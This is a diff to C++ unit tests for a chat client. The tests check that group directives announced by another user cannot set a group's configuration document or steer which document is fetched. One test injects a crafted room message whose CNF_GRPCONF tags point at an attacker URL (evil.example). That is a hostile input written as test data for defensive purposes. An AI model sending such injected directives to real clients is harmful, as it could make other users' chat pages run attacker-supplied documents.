@@ -332,9 +332,9 @@ TEST(GroupDirectives, AnnouncedGroupNamesDoNotSteerTheirDocument)
         t.m.vSetInstance(&inst);
         t.vEnter();
         t.strParse(std::string("<CNF_GRPCONF cnfurl=\"") + c.templ + "\"></CNF_GRPCONF>");
-        t.vReceive(std::string("<TMESS/><DYN_GRP GRPNAME=\"") + c.group +
-                       "\" GRPUSER=\"bob\" GRPRANK=\"1\" SENDER=\"bob\"></DYN_GRP>",
-                   "bob");
+        // bob's room line, as the server brings it.
+        t.cnx.session.boParseLine(std::string(":bob!u@h PRIVMSG #r :<TMESS/><DYN_GRP GRPNAME=\"") + c.group +
+                                  "\" GRPUSER=\"bob\" GRPRANK=\"1\" SENDER=\"bob\"></DYN_GRP>\r\n");
         ASSERT_TRUE(t.m.groups.boHasMember(c.group, "bob"));
         t.m.strNickDisplay("bob", 0);
         EXPECT_EQ(inst.urls, c.fetched ? Lines{c.fetched} : Lines{});
@@ -342,17 +342,20 @@ TEST(GroupDirectives, AnnouncedGroupNamesDoNotSteerTheirDocument)
 }
 
 // Another user's room line cannot give a group a configuration address: the
-// document it names would run with the rights of the chat's own pages.
+// document it names would run with the rights of the chat's own pages, now
+// that a group's document is fetched.
 TEST(GroupDirectives, AnotherUsersGroupConfigurationRunsNothing)
 {
     Chat t;
     CFakeInstance inst;
     t.m.vSetInstance(&inst);
     t.vEnter();
-    t.vReceive("<SMESS></SMESS><CNF_GRPCONF grpname=ops cnfurl=\"http://evil.example/ops.htm\"></CNF_GRPCONF>"
-               "<CNF_GRPCONF cnfurl=\"http://evil.example/%grpname%.htm\"></CNF_GRPCONF>"
-               "<DYN_GRP GRPNAME=\"ops\" GRPUSER=\"bob\" GRPRANK=\"1\" SENDER=\"bob\"></DYN_GRP>",
-               "bob");
+    // bob's room line, as the server brings it.
+    t.cnx.session.boParseLine(
+        ":bob!u@h PRIVMSG #r :<SMESS></SMESS><CNF_GRPCONF grpname=ops cnfurl=\"http://evil.example/ops.htm\">"
+        "</CNF_GRPCONF><CNF_GRPCONF cnfurl=\"http://evil.example/%grpname%.htm\"></CNF_GRPCONF>"
+        "<DYN_GRP GRPNAME=\"ops\" GRPUSER=\"bob\" GRPRANK=\"1\" SENDER=\"bob\"></DYN_GRP>\r\n");
+    t.strParse("<DYN_MESSAGES></DYN_MESSAGES>");
     ASSERT_TRUE(t.m.groups.boHasMember("ops", "bob")) << "the announcement itself is applied";
     EXPECT_EQ(t.m.groups.lpFind("ops")->strFileTemplate, "");
     EXPECT_EQ(t.m.groups.strGroupFile("ops"), "");
